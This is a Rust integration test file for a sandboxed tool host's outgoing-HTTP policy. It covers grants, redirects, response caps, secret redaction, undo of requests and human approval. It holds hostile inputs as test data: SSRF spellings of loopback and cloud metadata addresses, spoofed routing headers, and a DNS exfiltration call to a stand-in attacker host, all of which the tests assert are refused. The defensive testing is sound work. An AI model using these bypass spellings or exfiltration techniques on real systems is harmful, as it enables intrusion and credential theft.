//! Outgoing HTTP from the attacker's side, with real components and a real
//! HTTP(S) server on 127.0.0.1 that records every request it gets: the
//! allowed path (granted by literal address), redirects returned and not
//! followed, the response cap, secrets injected but never seen by the guest
//! or written anywhere, `http_request`'s undo, the dry-run method limit, and
//! every hostile attempt (loopback and metadata addresses in all their
//! spellings, names resolving to private addresses, a redirect to the
//! metadata address, DNS exfiltration, raw sockets, no grant at all) refused
//! with the right typed error while the server counts zero requests.

use capsaga_core::error::{ErrorKind, ToolError};
use capsaga_core::tool::{CallContext, ToolOutput};
use capsaga_host::dispatch::Outcome;
use capsaga_host::host::Host;
use capsaga_host::sandbox::{CallDiagnostics, CallRequest, Op};
use capsaga_tests::TestWorkspace;
use capsaga_tests::http_server::{BIG_BYTES, TestServer};
use serde_json::{Value, json};
use std::sync::Arc;

async fn step(host: &Arc<Host>, tool: &str, args: Value) -> Outcome {
    capsaga_tests::call_once(host, tool, args).await
}

fn ok(out: &Outcome) -> (&Value, &CallDiagnostics) {
    match out {
        Outcome::Committed {
            output,
            diagnostics: Some(d),
            ..
        } => (&output.data, d),
        other => panic!("expected success, got {other:?}"),
    }
}

fn failed(out: &Outcome) -> (&ToolError, &CallDiagnostics) {
    match out {
        Outcome::ReadFailed {
            error, diagnostics, ..
        }
        | Outcome::Failed {
            error, diagnostics, ..
        } => (error, diagnostics),
        other => panic!("expected a failed call, got {other:?}"),
    }
}

fn workspace(components: &[&str], srv: &TestServer, policy: &str) -> TestWorkspace {
    let ws = TestWorkspace::new(components, policy);
    std::fs::write(ws.root.join("ca.pem"), &srv.ca_pem).unwrap();
    ws
}

#[tokio::test(flavor = "multi_thread")]
async fn web_fetch_reads_a_granted_page_and_gets_redirects_back() {
    let srv = TestServer::start().await;
    let tp = srv.tls_addr.port();
    let ws = workspace(
        &["web_fetch"],
        &srv,
        &format!(
            "[tools.web_fetch]\ngrants = [\"net:https:127.0.0.1:{tp}\"]\n[net]\nca_files = [\"ca.pem\"]\n"
        ),
    );
    let host = ws.host().await;

    let out = step(&host, "web_fetch", json!({"url": srv.tls_url("/hello")})).await;
    let (data, diag) = ok(&out);
    assert_eq!(data["status"], 200);
    assert_eq!(data["title"], "Greeting page");
    let text = data["text"].as_str().unwrap();
    assert!(text.contains("hello world from the test server"), "{text}");
    assert!(!text.contains("evil()"), "{text}");
    assert_eq!(diag.net.len(), 1);
    assert_eq!(diag.net[0].outcome, "sent");
    let seen = srv.requests();
    assert_eq!(seen.len(), 1);
    assert!(seen[0].tls && seen[0].path == "/hello");
    // Host comes from the checked URL.
    assert_eq!(
        seen[0].header("host"),
        Some(format!("127.0.0.1:{tp}").as_str())
    );

    // A redirect is returned, not followed, when the tool does not follow.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/redirect-hello"), "follow_redirects": false}),
    )
    .await;
    assert_eq!(ok(&out).0["status"], 302);
    assert_eq!(srv.count(), 2);
    assert_eq!(srv.requests()[1].path, "/redirect-hello");

    // Following is the tool's own new request, checked again by the host.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/redirect-hello")}),
    )
    .await;
    let (data, diag) = ok(&out);
    assert_eq!(data["final_url"], srv.tls_url("/hello"));
    assert_eq!(data["redirects"], json!([srv.tls_url("/redirect-hello")]));
    assert_eq!(diag.net.len(), 2);
    assert_eq!(srv.count(), 4);

    // A redirect to the metadata address: the new request is refused.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/redirect-meta")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    assert_eq!(diag.net.len(), 2, "{:?}", diag.net);
    assert_eq!(diag.net[1].outcome, "denied");
    let details = serde_json::to_string(&err.details).unwrap();
    assert!(details.contains("169.254.169.254"), "{details}");
    assert_eq!(srv.count(), 5, "only /redirect-meta itself was requested");

    // A guest-side size limit cuts the text; over the host's cap is an error.
    let out = step(
        &host,
        "web_fetch",
        json!({"url": srv.tls_url("/big"), "max_bytes": 1000}),
    )
    .await;
    let (data, _) = ok(&out);
    assert_eq!(data["truncated"], true);
    assert_eq!(data["bytes"], 1000);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_response_cap_stops_a_large_body() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!(
            "[tools.net_escape]\ngrants = [\"net:http:127.0.0.1:{p}\"]\n[net]\nmax_response_bytes = 100000\n"
        ),
    );
    let host = ws.host().await;
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/big")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::QuotaExceeded, "{err:?}");
    assert_eq!(diag.net[0].outcome, "truncated");
    assert!(diag.net[0].body_bytes > 100_000 && diag.net[0].body_bytes < BIG_BYTES as u64);
    // The host carries on: a small response still works.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/hello")}),
    )
    .await;
    assert_eq!(ok(&out).0["observed"]["status"], 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn loopback_and_metadata_addresses_are_refused_in_every_spelling() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!(
            r#"[tools.net_escape]
grants = ["net:http:*.evil.test:{p}", "net:http:granted.test:{p}"]
[net]
hosts = {{ "loop.evil.test" = ["127.0.0.1"], "mapped.evil.test" = ["::ffff:127.0.0.1"], "v6.evil.test" = ["::1"], "nat64.evil.test" = ["64:ff9b::7f00:1"], "meta.evil.test" = ["169.254.169.254"], "zero.evil.test" = ["0.0.0.0"], "granted.test" = ["127.0.0.1"] }}
"#
        ),
    );
    let host = ws.host().await;
    let attempts = [
        format!("http://127.0.0.1:{p}/hello"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        format!("http://169.254.169.254:{p}/latest/meta-data/"),
        format!("http://[::ffff:127.0.0.1]:{p}/hello"),
        format!("http://[::1]:{p}/hello"),
        format!("http://2130706433:{p}/hello"),
        format!("http://0177.0.0.1:{p}/hello"),
        format!("http://0x7f.1:{p}/hello"),
        format!("http://127.1:{p}/hello"),
        format!("http://loop.evil.test:{p}/hello"),
        format!("http://LOOP.Evil.Test.:{p}/hello"),
        format!("http://loop%2eevil.test:{p}/hello"),
        format!("http://mapped.evil.test:{p}/hello"),
        format!("http://v6.evil.test:{p}/hello"),
        format!("http://nat64.evil.test:{p}/hello"),
        format!("http://meta.evil.test:{p}/hello"),
        format!("http://zero.evil.test:{p}/hello"),
        format!("http://granted.test:{p}/hello"),
        format!("http://user:pw@loop.evil.test:{p}/hello"),
        format!("https://loop.evil.test:{p}/hello"),
    ];
    for url in &attempts {
        let out = step(&host, "net_escape", json!({"mode": "get", "url": url})).await;
        let (err, diag) = failed(&out);
        assert!(
            matches!(
                err.kind,
                ErrorKind::PermissionDenied | ErrorKind::InvalidArgs
            ),
            "{url}: {err:?}"
        );
        if let Some(rec) = diag.net.first() {
            assert_eq!(rec.outcome, "denied", "{url}: {rec:?}");
        }
        assert_eq!(srv.count(), 0, "{url} reached the server");
    }
    // Names resolving to non-public addresses are refused after the host's
    // own lookup, which the record shows.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": format!("http://loop.evil.test:{p}/hello")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied);
    assert_eq!(
        diag.net[0].resolved,
        Some(vec!["127.0.0.1".parse().unwrap()])
    );
    assert!(diag.net[0].reason.as_deref().unwrap().contains("loopback"));
    // Routing headers are refused before anything is sent.
    for (name, value) in [
        ("host", "169.254.169.254"),
        ("x-forwarded-for", "127.0.0.1"),
    ] {
        let out = step(
            &host,
            "net_escape",
            json!({"mode": "get", "url": format!("http://granted.test:{p}/"), "header": [name, value]}),
        )
        .await;
        let (err, diag) = failed(&out);
        assert_eq!(err.kind, ErrorKind::PermissionDenied, "{name}: {err:?}");
        assert!(diag.net.is_empty(), "{name}: {:?}", diag.net);
    }
    assert_eq!(srv.count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_to_the_metadata_address_is_returned_and_refused_when_followed() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!("[tools.net_escape]\ngrants = [\"net:http:127.0.0.1:{p}\"]\n"),
    );
    let host = ws.host().await;
    // The host returns the 3xx as it is.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/redirect-meta")}),
    )
    .await;
    let (data, diag) = ok(&out);
    assert_eq!(data["observed"]["status"], 302);
    assert_eq!(
        data["observed"]["location"],
        "http://169.254.169.254/latest/meta-data/"
    );
    assert_eq!(diag.net.len(), 1);
    assert_eq!(srv.count(), 1);
    // Following it is a new request, refused.
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "follow", "url": srv.url("/redirect-meta")}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    assert_eq!(diag.net.len(), 2);
    assert_eq!(
        (diag.net[0].outcome, diag.net[1].outcome),
        ("sent", "denied")
    );
    assert!(
        diag.net[1].resolved.is_none(),
        "no lookup for a refused host"
    );
    assert_eq!(srv.count(), 2);
    // The literal grant's allowed path works (the host kept serving).
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/hello")}),
    )
    .await;
    assert_eq!(ok(&out).0["observed"]["status"], 200);
    assert_eq!(srv.count(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn dns_exfiltration_and_raw_sockets_are_refused() {
    let srv = TestServer::start().await;
    let p = srv.addr.port();
    let ws = workspace(
        &["net_escape"],
        &srv,
        &format!("[tools.net_escape]\ngrants = [\"net:http:127.0.0.1:{p}\"]\n"),
    );
    let host = ws.host().await;
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "exfil", "name": "exfil.attacker.test", "data": "password=hunter2 and more secrets to carry out"}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    let attempts = &err.details.as_ref().unwrap()["attempts"];
    assert_eq!(attempts.as_array().unwrap().len(), 2);
    for a in attempts.as_array().unwrap() {
        assert_eq!(a["lookup"], "permission-denied", "{a}");
        assert_eq!(a["http"], "permission-denied", "{a}");
    }
    // The host refused the HTTP attempts before resolving anything.
    assert_eq!(diag.net.len(), 2);
    assert!(
        diag.net
            .iter()
            .all(|r| r.outcome == "denied" && r.resolved.is_none())
    );

    for args in [
        json!({"mode": "lookup", "name": "example.com"}),
        json!({"mode": "tcp", "addr": srv.raw_addr.to_string()}),
        json!({"mode": "tcp", "addr": srv.addr.to_string()}),
        json!({"mode": "udp"}),
    ] {
        let out = step(&host, "net_escape", args.clone()).await;
        let (err, _) = failed(&out);
        assert_eq!(err.kind, ErrorKind::PermissionDenied, "{args}: {err:?}");
    }
    assert_eq!(srv.raw_connections(), 0);
    assert_eq!(srv.count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_net_grant_nothing_is_reachable() {
    let srv = TestServer::start().await;
    let ws = workspace(
        &["net_sneak", "web_fetch"],
        &srv,
        "[tools.net_sneak]\n[tools.web_fetch]\n",
    );
    let host = ws.host().await;
    let out = step(
        &host,
        "net_sneak",
        json!({"url": srv.url("/hello"), "addr": srv.raw_addr.to_string()}),
    )
    .await;
    let (err, diag) = failed(&out);
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    let d = err.details.as_ref().unwrap();
    assert_eq!(d["http"]["kind"], "permission-denied", "{d}");
    assert!(d["tcp"].as_str().unwrap().contains("access-denied"), "{d}");
    assert!(
        diag.net[0]
            .reason
            .as_deref()
            .unwrap()
            .contains("no net grant")
    );
    // A tool that declares net access but is granted none is not callable.
    let out = step(&host, "web_fetch", json!({"url": srv.tls_url("/hello")})).await;
    match out {
        Outcome::Refused { error, .. } => {
            assert!(error.message.contains("net:https:*"), "{error:?}")
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(srv.count(), 0);
    assert_eq!(srv.raw_connections(), 0);
}

const SECRET: &str = "sk-test-7a1f9c0e-DO-NOT-LEAK";

fn bytes_contain(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

/// Every file under `.capsaga` (the SQLite database, its WAL and journal).
fn state_files_contain(ws: &TestWorkspace, needle: &str) -> Vec<String> {
    capsaga_tests::snapshot(&ws.root.join(".capsaga"))
        .into_iter()
        .filter(|(_, bytes)| bytes_contain(bytes, needle))
        .map(|(name, _)| name)
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_reach_the_server_and_nothing_else() {
    let srv = TestServer::start().await;
    let tp = srv.tls_addr.port();
    let p = srv.addr.port();
    let ws = workspace(
        &["secret_probe", "net_escape"],
        &srv,
        &format!(
            r#"[tools.secret_probe]
grants = ["net:https:127.0.0.1:{tp}", "secret:api@127.0.0.1"]
[tools.net_escape]
grants = ["net:http:127.0.0.1:{p}"]
[secrets.api]
value = "{SECRET}"
prefix = "Bearer "
[net]
ca_files = ["ca.pem"]
"#
        ),
    );
    let host = ws.host().await;
    let out = step(&host, "secret_probe", json!({"url": srv.tls_url("/echo")})).await;
    let (data, diag) = ok(&out);
    // The server got the operator's credential, not the guest's value.
    let seen = srv.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    // The echo came back redacted; the guest saw no secret anywhere.
    let body = data["body"].as_str().unwrap();
    assert!(body.contains("authorization: Bearer [redacted]"), "{body}");
    let everything = format!("{out:?}{}", serde_json::to_string(&diag).unwrap());
    assert!(
        !everything.contains(SECRET),
        "secret visible to the guest or in diagnostics"
    );
    assert_eq!(
        seen[0]
            .headers
            .iter()
            .filter(|(k, _)| k == "authorization")
            .count(),
        1,
        "the guest's own authorization header was replaced, not added to"
    );
    // A tool without the secret grant sends no credential (and plain HTTP
    // never carries one).
    let out = step(
        &host,
        "net_escape",
        json!({"mode": "get", "url": srv.url("/echo")}),
    )
    .await;
    let body = ok(&out).0["observed"]["body"].as_str().unwrap().to_string();
    assert!(
        !body.to_ascii_lowercase().contains("authorization"),
        "{body}"
    );
    // An agent turn using it: trace and WAL rows hold no secret.
    let script = ws.root.join("script.json");
    std::fs::write(
        &script,
        json!({"turns": [
            {"text": "probe", "tool_calls": [{"name": "secret_probe", "arguments": {"url": srv.tls_url("/echo")}}]},
            {"text": "done"}
        ]})
        .to_string(),
    )
    .unwrap();
    let provider =
        capsaga_host::agent::scripted::ScriptedProvider::from_file(&script, &ws.root).unwrap();
    let tr = capsaga_host::agent::runner::run_turn(
        &host,
        &provider,
        "probe the API",
        &Default::default(),
    )
    .await
    .unwrap();
    assert!(!format!("{tr:?}").contains(SECRET));
    assert_eq!(srv.count(), 3);
    drop(host);
    assert!(
        state_files_contain(&ws, SECRET).is_empty(),
        "secret written to {:?}",
        state_files_contain(&ws, SECRET)
    );
    // Sanity: the scan does see what was stored (the redacted echo).
    assert!(!state_files_contain(&ws, "[redacted]").is_empty());
}

/// Run a child process without blocking the runtime that serves its requests.
async fn run(mut cmd: std::process::Command) -> std::process::Output {
    tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_cli_never_prints_or_logs_the_secret() {
    let srv = TestServer::start().await;
    let tp = srv.tls_addr.port();
    let ws = workspace(
        &["secret_probe"],
        &srv,
        &format!(
            r#"[tools.secret_probe]
grants = ["net:https:127.0.0.1:{tp}", "secret:api@127.0.0.1"]
[secrets.api]
env = "CAPSAGA_TEST_API_TOKEN"
[net]
ca_files = ["ca.pem"]
"#
        ),
    );
    let bin = tokio::task::spawn_blocking(capsaga_tests::capsaga_bin)
        .await
        .unwrap();
    let url = srv.tls_url("/echo");
    let mut cmd = std::process::Command::new(&bin);
    cmd.arg("--config")
        .arg(ws.config())
        .args(["--json", "call", "secret_probe"])
        .arg(json!({ "url": url }).to_string())
        .env("CAPSAGA_TEST_API_TOKEN", SECRET)
        .env("RUST_LOG", "trace");
    let out = run(cmd).await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("[redacted]"), "{stdout}");
    assert!(
        !stdout.contains(SECRET) && !stderr.contains(SECRET),
        "{stdout}\n{stderr}"
    );
    assert_eq!(
        srv.requests()[0].header("authorization"),
        Some(SECRET),
        "the env-provided secret was sent"
    );
    // Without the variable the host refuses to start, naming the variable only.
    let mut cmd = std::process::Command::new(&bin);
    cmd.arg("--config")
        .arg(ws.config())
        .args(["tools", "list"])
        .env_remove("CAPSAGA_TEST_API_TOKEN");
    let out = run(cmd).await;
    assert_eq!(out.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&out.stderr).contains("CAPSAGA_TEST_API_TOKEN"));
    assert!(state_files_contain(&ws, SECRET).is_empty());
}

fn ctx(dry_run: bool) -> CallContext {
    CallContext {
        saga_id: "s".into(),
        step_seq: 0,
        idempotency_key: "s:0:http_request:k".into(),
        deadline_ms: 0,
        dry_run,
    }
}

async fn call(
    host: &Host,
    tool: &str,
    args: Value,
    op: Op,
    dry: bool,
) -> Result<Option<ToolOutput>, ToolError> {
    let t = host.registry.get(tool).unwrap();
    let grants = t.grants.as_ref().unwrap().clone();
    let c = ctx(dry);
    let args = args.to_string();
    host.sandbox
        .call(CallRequest {
            tool,
            prepared: t.component().unwrap(),
            bindings: &host.sandbox.factors().configure(&grants),
            limits: &t.limits,
            ctx: &c,
            args_json: &args,
            op: &op,
        })
        .await
        .0
}

#[tokio::test(flavor = "multi_thread")]
async fn http_request_undoes_what_the_api_lets_it_undo() {
    let srv = TestServer::start().await;
    let tp = srv.tls_addr.port();
    let ws = workspace(
        &["http_request"],
        &srv,
        &format!(
            "[tools.http_request]\ngrants = [\"net:https:127.0.0.1:{tp}\"]\n[net]\nca_files = [\"ca.pem\"]\n"
        ),
    );
    let host = ws.host().await;
    // POST → 201 + Location: the undo is a DELETE of it.
    let args = json!({"method": "POST", "url": srv.tls_url("/items"), "json": {"name": "a"}});
    let out = call(&host, "http_request", args.clone(), Op::Execute, false)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(out.data["status"], 201);
    assert_eq!(out.data["undo"]["method"], "DELETE");
    assert_eq!(out.data["undo"]["url"], srv.tls_url("/items/1"));
    let post = &srv.requests()[0];
    assert_eq!(post.header("idempotency-key"), Some("s:0:http_request:k"));
    assert_eq!(post.header("content-type"), Some("application/json"));
    for _ in 0..2 {
        // Twice: compensation is idempotent (a 404 on the second DELETE is done).
        call(
            &host,
            "http_request",
            args.clone(),
            Op::Compensate(out.clone()),
            false,
        )
        .await
        .unwrap();
    }
    let methods: Vec<(String, String)> = srv
        .requests()
        .iter()
        .map(|s| (s.method.clone(), s.path.clone()))
        .collect();
    assert_eq!(
        methods[1..],
        [
            ("DELETE".to_string(), "/items/1".to_string()),
            ("DELETE".to_string(), "/items/1".to_string())
        ]
    );

    // PUT over an existing item: the undo puts the previous representation back.
    call(
        &host,
        "http_request",
        json!({"method": "POST", "url": srv.tls_url("/items"), "body": "v1"}),
        Op::Execute,
        false,
    )
    .await
    .unwrap();
    let put = json!({"method": "PUT", "url": srv.tls_url("/items/2"), "body": "v2"});
    let out = call(&host, "http_request", put.clone(), Op::Execute, false)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(out.data["undo"]["method"], "PUT");
    assert_eq!(out.data["undo"]["body"], "v1");
    call(&host, "http_request", put, Op::Compensate(out), false)
        .await
        .unwrap();
    let last = srv.requests().last().unwrap().clone();
    assert_eq!(
        (last.method.as_str(), last.path.as_str()),
        ("PUT", "/items/2")
    );

    // PATCH has no defined inverse: unrevertible.
    let patch = json!({"method": "PATCH", "url": srv.tls_url("/items/2"), "body": "v3"});
    let out = call(&host, "http_request", patch.clone(), Op::Execute, false)
        .await
        .unwrap()
        .unwrap();
    let err = call(&host, "http_request", patch, Op::Compensate(out), false)
        .await
        .unwrap_err();
    assert_eq!(err.kind, ErrorKind::Unrevertible);

    // In a dry run the host allows only GET and HEAD: a POST is refused
    // even from `execute`, and `dry-run` itself only reads.
    let before = srv.count();
    let err = call(&host, "http_request", args.clone(), Op::Execute, true)
        .await
        .unwrap_err();
    assert_eq!(err.kind, ErrorKind::PermissionDenied, "{err:?}");
    assert_eq!(srv.count(), before, "the POST never left the host");
    let out = call(
        &host,
        "http_request",
        json!({"method": "DELETE", "url": srv.tls_url("/items/2")}),
        Op::DryRun,
        true,
    )
    .await
    .unwrap()
    .unwrap();
    assert_eq!(out.data["current_status"], 200);
    let last = srv.requests().last().unwrap().clone();
    assert_eq!(
        (last.method.as_str(), last.path.as_str()),
        ("GET", "/items/2")
    );

    // The high-risk tool goes through the policy: a human must approve it,
    // so the step is parked and nothing is sent.
    let before = srv.count();
    let out = step(&host, "http_request", args).await;
    assert!(matches!(out, Outcome::AwaitingApproval { .. }), "{out:?}");
    assert_eq!(srv.count(), before, "a parked POST never leaves the host");
}
